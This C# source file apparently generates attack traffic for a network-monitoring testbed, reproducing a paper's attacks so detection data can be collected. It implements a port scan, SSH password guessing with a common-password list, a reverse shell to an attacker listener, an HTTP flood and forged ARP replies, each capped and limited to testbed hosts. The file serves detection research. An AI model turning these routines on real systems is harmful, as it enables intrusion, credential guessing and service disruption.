using System.Net;
using System.Net.NetworkInformation;
using System.Net.Sockets;
using System.Text;
using FaaSMon.Network.Testbed;
using PacketDotNet;
using SharpPcap;
using SharpPcap.LibPcap;

namespace FaaSMon.Network.Scenarios;

/// <summary>
/// The TGAT paper's attacks, from the attacker host against testbed hosts only. Each one is bounded twice: by a count
/// (ports, attempts, requests, commands, forged replies) and by the deadline of its episode, after which it stops by
/// itself. Attacks repeat in bursts with pauses, so every window of an episode holds some of it.
/// </summary>
internal sealed class AttackTraffic(NetworkTestbed testbed, Random random)
{
    public const int MaxScanPorts = 2_000;
    public const int MaxSshAttempts = 60;
    public const int MaxFloodRequests = 4_000;
    public const int MaxShellCommands = 60;
    public const int MaxForgedReplies = 200;

    private static readonly string[] Passwords = ["123456", "password", "admin", "root", "qwerty", "letmein", "faasmon", "welcome", "dragon", "master", "changeme", "toor"];
    private static readonly string[] ShellCommands = ["id", "uname -a", "hostname", "ls -la /", "cat /etc/os-release", "ls /var/lib", "echo $PATH", "pwd", "ls -la /etc", "cat /etc/hostname"];

    private TestbedLayout Layout => testbed.Layout;

    private int Next(int min, int max)
    {
        lock (random)
        {
            return random.Next(min, max);
        }
    }

    public Task RunAsync(ScenarioKind kind, DateTimeOffset until, CancellationToken cancellationToken) => kind switch
    {
        ScenarioKind.PortScan => PortScanAsync(until, cancellationToken),
        ScenarioKind.SshBruteForce => SshBruteForceAsync(until, cancellationToken),
        ScenarioKind.ReverseShell => ReverseShellAsync(until, cancellationToken),
        ScenarioKind.Ddos => DdosAsync(until, cancellationToken),
        ScenarioKind.ArpSpoof => ArpSpoofAsync(until, cancellationToken),
        _ => Task.CompletedTask,
    };

    private static CancellationTokenSource Deadline(DateTimeOffset until, CancellationToken cancellationToken)
    {
        var source = CancellationTokenSource.CreateLinkedTokenSource(cancellationToken);
        source.CancelAfter(until - DateTimeOffset.UtcNow is { Ticks: > 0 } left ? left : TimeSpan.Zero);
        return source;
    }

    /// <summary>TCP connect scan: bursts of ports on one victim at a time, a short timeout per port.</summary>
    private async Task PortScanAsync(DateTimeOffset until, CancellationToken cancellationToken)
    {
        using var deadline = Deadline(until, cancellationToken);
        var attacker = testbed.In(Layout.Attacker);
        var scanned = 0;
        while (!deadline.IsCancellationRequested && scanned < MaxScanPorts)
        {
            var victim = Layout.Hosts[Next(0, 5)];
            var burst = Enumerable.Range(0, Next(20, 80)).Select(_ => Next(1, 10_000)).Distinct().Take(MaxScanPorts - scanned).ToList();
            scanned += burst.Count;
            await Parallel.ForEachAsync(burst, new ParallelOptions { MaxDegreeOfParallelism = 16, CancellationToken = CancellationToken.None }, async (port, token) =>
            {
                using var socket = await attacker.TcpSocketAsync();
                using var probe = CancellationTokenSource.CreateLinkedTokenSource(deadline.Token);
                probe.CancelAfter(TimeSpan.FromMilliseconds(300));
                try
                {
                    await socket.ConnectAsync(IPAddress.Parse(victim.Address), port, probe.Token);
                }
                catch (Exception e) when (e is SocketException or OperationCanceledException)
                {
                    // closed or filtered: what a scan is for
                }
            });
            await Pause(100, 350, deadline.Token);
        }
    }

    /// <summary>Password guesses with Debian's OpenSSH client against the API host's sshd (a user that does not exist).</summary>
    private async Task SshBruteForceAsync(DateTimeOffset until, CancellationToken cancellationToken)
    {
        using var deadline = Deadline(until, cancellationToken);
        var attempts = 0;
        var askpass = Path.Combine(Layout.StateDirectory, "ssh", "askpass");
        var user = Next(0, 2) == 0 ? "admin" : "root";
        async Task Guesser()
        {
            while (!deadline.IsCancellationRequested && Interlocked.Increment(ref attempts) <= MaxSshAttempts)
            {
                var guess = Passwords[Next(0, Passwords.Length)];
                try
                {
                    _ = await NamespacedProcess.RunAsync(Layout.Namespace(Layout.Attacker), "/usr/bin/ssh",
                        ["-F", "/dev/null", "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-o", "PreferredAuthentications=password",
                         "-o", "PubkeyAuthentication=no", "-o", "NumberOfPasswordPrompts=2", "-o", "ConnectTimeout=2", "-o", "LogLevel=QUIET",
                         "-p", $"{TestbedServices.SshPort}", $"{user}@{Layout.Api.Address}", "true"],
                        TimeSpan.FromSeconds(3), new Dictionary<string, string> { ["SSH_ASKPASS"] = askpass, ["SSH_ASKPASS_REQUIRE"] = "force", ["FAASMON_GUESS"] = guess, ["DISPLAY"] = ":0" },
                        deadline.Token);
                }
                catch (OperationCanceledException)
                {
                    return;
                }

                await Pause(20, 150, deadline.Token);
            }
        }

        await Task.WhenAll(Enumerable.Range(0, 3).Select(_ => Guesser()));
    }

    /// <summary>
    /// A victim host connects out to the attacker and hands it a shell: /bin/sh runs in the victim's namespace as
    /// nobody, its stdin and stdout joined to a TCP connection from the victim to the attacker's listener. The
    /// attacker types reconnaissance commands and reads what comes back.
    /// </summary>
    private async Task ReverseShellAsync(DateTimeOffset until, CancellationToken cancellationToken)
    {
        using var deadline = Deadline(until, cancellationToken);
        var victim = new[] { Layout.Web, Layout.Api, Layout.Db, Layout.Redis }[Next(0, 4)];
        var port = new[] { 4444, 1337, 9001, 5555, 8443 }[Next(0, 5)];
        using var listener = await testbed.In(Layout.Attacker).TcpSocketAsync();
        listener.Bind(new IPEndPoint(IPAddress.Parse(Layout.Attacker.Address), port));
        listener.Listen(1);
        await using var shell = NamespacedProcess.Start(Layout.Namespace(victim), "/usr/bin/setpriv",
            ["--reuid=nobody", "--regid=nogroup", "--clear-groups", "/bin/sh"], redirectInput: true, rawOutput: true);
        using var outbound = await testbed.In(victim).TcpSocketAsync();
        var accepted = listener.AcceptAsync(deadline.Token);
        try
        {
            await outbound.ConnectAsync(IPAddress.Parse(Layout.Attacker.Address), port, deadline.Token);
            using var session = await accepted;
            using var victimStream = new NetworkStream(outbound, ownsSocket: false);
            var toShell = victimStream.CopyToAsync(shell.StandardInput.BaseStream, deadline.Token);
            var fromShell = shell.StandardOutput.CopyToAsync(victimStream, deadline.Token);
            var buffer = new byte[8192];
            for (var i = 0; i < MaxShellCommands && !deadline.IsCancellationRequested; i++)
            {
                var command = ShellCommands[Next(0, ShellCommands.Length)] + "\n";
                await session.SendAsync(Encoding.ASCII.GetBytes(command), deadline.Token);
                using var read = CancellationTokenSource.CreateLinkedTokenSource(deadline.Token);
                read.CancelAfter(TimeSpan.FromMilliseconds(400));
                try
                {
                    _ = await session.ReceiveAsync(buffer, read.Token);
                }
                catch (OperationCanceledException) when (!deadline.IsCancellationRequested)
                {
                }

                await Pause(100, 400, deadline.Token);
            }
        }
        catch (Exception e) when (e is OperationCanceledException or SocketException or IOException)
        {
            // the episode ended mid-session
        }
    }

    /// <summary>HTTP flood on the web server from the attacker and its bot addresses, in bursts.</summary>
    private async Task DdosAsync(DateTimeOffset until, CancellationToken cancellationToken)
    {
        using var deadline = Deadline(until, cancellationToken);
        var attacker = testbed.In(Layout.Attacker);
        var sources = Layout.BotAddresses.Append(Layout.Attacker.Address).ToList();
        var sent = 0;
        while (!deadline.IsCancellationRequested && sent < MaxFloodRequests)
        {
            var burst = Math.Min(Next(60, 200), MaxFloodRequests - sent);
            sent += burst;
            await Parallel.ForEachAsync(Enumerable.Range(0, burst), new ParallelOptions { MaxDegreeOfParallelism = 32, CancellationToken = CancellationToken.None }, async (i, token) =>
            {
                using var socket = await attacker.TcpSocketAsync();
                socket.Bind(new IPEndPoint(IPAddress.Parse(sources[i % sources.Count]), 0));
                using var request = CancellationTokenSource.CreateLinkedTokenSource(deadline.Token);
                request.CancelAfter(TimeSpan.FromMilliseconds(800));
                try
                {
                    await socket.ConnectAsync(IPAddress.Parse(Layout.Web.Address), TestbedServices.WebPort, request.Token);
                    await socket.SendAsync(Encoding.ASCII.GetBytes($"GET /?{i} HTTP/1.1\r\nHost: {Layout.Web.Address}\r\nConnection: close\r\n\r\n"), request.Token);
                    _ = await BenignTraffic.ReadToEndAsync(socket, request.Token);
                }
                catch (Exception e) when (e is SocketException or OperationCanceledException)
                {
                }
            });
            await Pause(50, 250, deadline.Token);
        }
    }

    /// <summary>
    /// Forged ARP replies (PacketDotNet) telling victims that a server's address is at the attacker's MAC, sent on the
    /// attacker's own interface; at the end the true mappings are announced again, as arpspoof does when it stops.
    /// </summary>
    private async Task ArpSpoofAsync(DateTimeOffset until, CancellationToken cancellationToken)
    {
        var attackerMac = PhysicalAddress.Parse(testbed.MacAddresses[Layout.Attacker.Address].Replace(':', '-').ToUpperInvariant());
        var claimed = new[] { Layout.Db, Layout.Web, Layout.Redis }[Next(0, 3)];
        var victims = new[] { Layout.Client, Layout.Api };
        var device = testbed.BlockingIn(Layout.Attacker).Run(() =>
        {
            var found = LibPcapLiveDeviceList.New().First(d => d.Name == "eth0");
            found.Open(new DeviceConfiguration { Mode = DeviceModes.None, ReadTimeout = 100 });
            return found;
        });
        try
        {
            using var deadline = Deadline(until, cancellationToken);
            var sent = 0;
            while (!deadline.IsCancellationRequested && sent < MaxForgedReplies)
            {
                foreach (var victim in victims)
                {
                    device.SendPacket(ArpReply(attackerMac, claimed.Address, Mac(victim), victim.Address));
                    sent++;
                }

                await Pause(60, 200, deadline.Token);
            }

            var realMac = Mac(claimed);
            foreach (var victim in victims)
            {
                device.SendPacket(ArpReply(realMac, claimed.Address, Mac(victim), victim.Address));
            }
        }
        finally
        {
            device.Close();
        }
    }

    private PhysicalAddress Mac(TestbedHost host) => PhysicalAddress.Parse(testbed.MacAddresses[host.Address].Replace(':', '-').ToUpperInvariant());

    internal static byte[] ArpReply(PhysicalAddress senderMac, string senderAddress, PhysicalAddress targetMac, string targetAddress)
    {
        var arp = new ArpPacket(ArpOperation.Response, targetMac, IPAddress.Parse(targetAddress), senderMac, IPAddress.Parse(senderAddress));
        var ethernet = new EthernetPacket(senderMac, targetMac, EthernetType.Arp) { PayloadPacket = arp };
        return ethernet.Bytes;
    }

    private async Task Pause(int minMs, int maxMs, CancellationToken cancellationToken)
    {
        try
        {
            await Task.Delay(Next(minMs, maxMs), cancellationToken);
        }
        catch (OperationCanceledException)
        {
        }
    }
}
